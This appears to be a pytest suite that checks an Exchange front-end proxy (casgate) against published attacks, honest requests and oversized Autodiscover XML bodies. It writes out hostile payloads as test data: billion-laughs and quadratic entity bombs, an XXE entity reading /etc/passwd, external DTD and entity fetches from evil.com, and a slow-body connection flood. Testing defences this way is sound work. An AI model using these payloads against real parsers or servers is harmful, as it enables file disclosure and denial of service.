# SPDX-License-Identifier: BSD-3-Clause
"""Published attacks on Exchange's front ends, through casgate to back ends that
tell what arrived: refused for a counted reason, or led where they belong
without what made them attacks. What is honest and looks alike passes."""
import contextlib
import hashlib
import time

import pytest

from lab import attacks
from lab.fixture import Lab
from lab.hosts import wait_until
from lab.origin import Origin
from lab.topology import ALICE, BOB, NAMESPACE
from lab.wire import basic

# Every request that passes ends at one of these.
ECHO16, ECHO10 = ("ECHO16", "2016", "10.20.0.61"), ("ECHO10", "2010", "10.20.0.62")
REASONS = ("malformed", "misdirected", "unknown_vdir", "hostile_targets")


@pytest.fixture(scope="module")
def module_lab():
    lab = Lab()
    gate = lab.gate
    gate.config["servers"], lab.echoes = [], {}
    gate.config["timeouts"] = {"request-head": "3s", "autodiscover": "3s"}
    for name, version, address in (ECHO16, ECHO10):
        fqdn = f"{name.lower()}.contoso.local"
        lab.echoes[name] = Origin(lab.hosts, address, gate.authority.issue(name, [fqdn]))
        gate.config["servers"].append({
            "name": name, "fqdn": fqdn, "address": address, "version": version, "site": "HQ",
            "probes": False, "tls": {"ca": str(gate.authority.cert)}})
    with lab:
        gate.ctl("mailbox", "set", ALICE.smtp, "--server", ECHO16[0])
        gate.ctl("mailbox", "set", BOB.smtp, "--server", ECHO10[0])
        yield lab
    for echo in lab.echoes.values():
        echo.close()


@pytest.fixture
def lab(own_lab):
    yield own_lab
    for echo in own_lab.echoes.values():
        echo.seen.clear()


def arrived(lab):
    """(server, request) of everything that came to a back end."""
    return [(name, seen) for name, echo in lab.echoes.items() for seen in echo.seen]


def counted(lab, names):
    stats = lab.gate.stats()
    return {name: stats[f"proxy.{name}"] for name in names}


def play(lab, request):
    with lab.wire() as wire:
        return wire.send(request).read()


def name_of(attack):
    return f"{attack.what}: {(attack.lines or (attack.host,))[0]} {attack.target}"[:90] \
        .encode("ascii", "backslashreplace").decode()


def test_there_are_enough():
    requests = [a.request() for a in attacks.ATTACKS]
    assert len(set(requests)) == len(requests) > 150
    assert all(bool(a.gone) != bool(a.status) for a in attacks.ATTACKS)


@pytest.mark.parametrize("attack", [a for a in attacks.ATTACKS if a.status], ids=name_of)
def test_is_refused(lab, attack):
    before = counted(lab, (*REASONS, "proxied", "connects"))
    for who in "", basic(BOB):
        answer = play(lab, attack.request(who))
        assert answer.status == attack.status, answer.body
    after = counted(lab, (*REASONS, "proxied", "connects"))
    assert sorted(after[n] - before[n] for n in REASONS) == [0, 0, 0, 2], "each for one reason"
    assert all(after[n] == before[n] for n in ("proxied", "connects")) and not arrived(lab)


@pytest.mark.parametrize("attack", [a for a in attacks.ATTACKS if a.gone], ids=name_of)
def test_arrives_without_its_sting(lab, attack):
    """At whose it is: nobody's, Alice's and Autodiscover V2 at the 2016 server,
    what else is Bob's at the 2010 one."""
    for who, home in ("", "ECHO16"), (basic(BOB), "ECHO10"):
        assert play(lab, attack.request(who)).status == 200
        (server, seen), = arrived(lab)
        lab.echoes[server].seen.clear()
        newest = "alice@" in attack.target or attack.target.startswith(attacks.JSON)
        assert server == ("ECHO16" if newest else home)
        assert (seen.method, seen.target) == (attack.method, attack.target)
        assert seen.bytes == len(attack.body)
        text = "\n".join(f"{n}: {v}" for n, v in seen.headers).lower()
        assert not [w for w in attack.gone if w.lower().strip() in text], text


@pytest.mark.parametrize("what, target, lines", attacks.HONEST, ids=lambda v: v if " " in v else "")
def test_honest_requests_pass(lab, what, target, lines):
    before = counted(lab, REASONS)
    attack = attacks.Attack(what, target, lines)
    assert play(lab, attack.request(basic(ALICE))).status == 200
    (server, seen), = arrived(lab)
    assert (server, seen.target) == ("ECHO16", target)
    told = [f"{n}: {v}" for n, v in seen.headers]
    assert not [line for line in lines if line not in told], told
    assert counted(lab, REASONS) == before


def test_honest_cookies_stay_as_they_are(lab):
    """Between hostile ones, in order, to the byte."""
    request = attacks.Attack("", "/owa/", ("Cookie: a=1;b = 2 ; X-BEResource=x; c=\"3, 4\";;"
                                          "SecurityToken=5; d;X-BackEndCookie=6",))
    assert play(lab, request.request()).status == 200
    (_, seen), = arrived(lab)
    assert seen.all("Cookie") == ['a=1; b = 2; c="3, 4"; d; X-BackEndCookie=6']


# --- what an Autodiscover request may be made of ----------------------------------------

# Nobody's address is in these: they go where whoever asks belongs.
ADDRESS = f"<EMailAddress>{BOB.smtp}</EMailAddress>"
LAUGHS = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
BOMBS = {
    "a document type": f"<!DOCTYPE r><r>{ADDRESS}</r>",
    "a billion laughs": f'<!DOCTYPE r [<!ENTITY l0 "lol">{LAUGHS}]><r>&l9;{ADDRESS}</r>',
    "quadratic": f'<!DOCTYPE r [<!ENTITY a "{"a" * 6000}">]><r>{"&a;" * 3000}</r>',
    "a file": '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
              "<r><EMailAddress>&x;</EMailAddress></r>",
    "another server's DTD": f'<!DOCTYPE r SYSTEM "http://evil.com/x.dtd"><r>{ADDRESS}</r>',
    "a parameter entity": '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.com/">%p;]>'
                          f"<r>{ADDRESS}</r>",
    "an entity in the address": "<r><EMailAddress>bob&#64;contoso.com</EMailAddress></r>",
    "CDATA": f"<r><![CDATA[{ADDRESS}]]></r>",
    "a comment": f"<r><!-- {ADDRESS} --></r>",
    "a comment without an end": f"<r><!-- {ADDRESS}</r>",
    "an attribute": f"<r a='{ADDRESS}'/>",
    "a quote without an end": f"<r a='>{ADDRESS}",
    "a path": "<r><EMailAddress>bob@contoso.com/../alice@contoso.com</EMailAddress></r>",
    "cut off": "<r><EMailAddress>bob@contoso.com",
    "UTF-16": f"<r>{ADDRESS}</r>".encode("utf-16"),
    "UTF-7": f"<?xml version='1.0' encoding='UTF-7'?><r>+ADw-EMailAddress+AD4-{BOB.smtp}</r>",
    "zeros": b"\0" * 16000,
    "tags without an end": "<" * 16000,
    "quotes": "<r " + "'\"" * 8000,
    "colons": "<" + "a:" * 8000 + ">x<",
    "comments": "<!--" * 4000,
    "behind 16 KiB": f"<r>{' ' * 16384}{ADDRESS}</r>",
    "behind 32 KiB": f"<r>{' ' * 32768}{ADDRESS}</r>",
}


def discover(lab, body, headers=()):
    """One request of Alice's; (seconds, server, what arrived)."""
    body = body if isinstance(body, bytes) else body.encode()
    attack = attacks.Attack("", "/Autodiscover/Autodiscover.xml",
                            ("Content-Type: text/xml", *headers), method="POST", body=body)
    began = time.monotonic()
    assert play(lab, attack.request(basic(ALICE))).status == 200
    took = time.monotonic() - began
    (server, seen), = arrived(lab)
    assert (seen.bytes, seen.sha256) == (len(body), hashlib.sha256(body).hexdigest())
    return took, server, seen


@pytest.mark.parametrize("what", BOMBS)
def test_a_body_is_not_expanded(lab, what):
    """It costs nothing, it is nobody's, and it arrives as it is: a document type
    is for the server to refuse."""
    before = lab.gate.stats()["memory.heap_in_use"]
    took, server, _ = discover(lab, BOMBS[what])
    assert server == "ECHO16" and took < 1
    assert lab.gate.stats()["memory.heap_in_use"] - before < 1 << 20


@pytest.mark.parametrize("depth", [1, 100, 1200])
def test_an_address_is_found_at_any_depth(lab, depth):
    took, server, _ = discover(lab, "<a x='>'>" * depth + ADDRESS + "</a>" * depth)
    assert server == "ECHO10" and took < 1


@pytest.mark.parametrize("words", [
    ["-H", "Transfer-Encoding: chunked"], ["-H", "Expect: 100-continue"]], ids=lambda w: w[1])
def test_a_body_in_other_framing(lab, words):
    """In chunks nothing is read ahead: it goes where the user belongs."""
    lab.curl("-u", f"{ALICE.smtp}:x", *words, "-H", "Content-Type: text/xml", "--data-binary",
             f"<r>{ADDRESS}</r>", f"https://{NAMESPACE}/Autodiscover/Autodiscover.xml")
    (server, seen), = arrived(lab)
    assert server == ("ECHO16" if "chunked" in words[1] else "ECHO10")
    assert seen.bytes == len(ADDRESS) + 7


@pytest.mark.parametrize("announced", ["Content-Length: 1000", "Content-Length: 20000",
                                       "Transfer-Encoding: chunked"])
def test_a_body_at_a_byte_a_second(lab, announced):
    """Be it read ahead or not: it ends in time as a whole, a crowd of them blocks
    nobody, and no server sees half of it as all."""
    head = f"POST /Autodiscover/Autodiscover.xml HTTP/1.1\r\nHost: {NAMESPACE}\r\n" \
        f"{basic(ALICE)}Content-Type: text/xml\r\n{announced}\r\n\r\n".encode()
    piece = b"1\r\nx\r\n" if "chunked" in announced else b"x"
    began, ended, slowest = time.monotonic(), {}, 0
    with contextlib.ExitStack() as stack:
        crowd = [stack.enter_context(lab.wire()) for _ in range(40)]
        for wire in crowd:
            wire.send(head + piece)
        while len(ended) < len(crowd) and time.monotonic() < began + 15:
            for wire in crowd:
                if wire not in ended and not wire.silent(0.005):
                    ended[wire] = wire.read().status
                elif wire not in ended:
                    wire.send(piece)
            asked = time.monotonic()
            assert lab.ask(BOB, "ews")[0] == 200
            slowest = max(slowest, time.monotonic() - asked)
            time.sleep(0.5)
        took = time.monotonic() - began
    print(f"\n{len(ended)} of 40 ended after {took:.1f} s; others were served in {slowest:.2f} s")
    assert set(ended.values()) == {408} and len(ended) == 40
    assert 2 < took < 10 and slowest < 1.5
    assert all(seen.ended != "complete" for seen in lab.echoes["ECHO16"].seen)
    wait_until("nothing is left", lambda: lab.gate.stats()["proxy.buffers_used"] == 0)
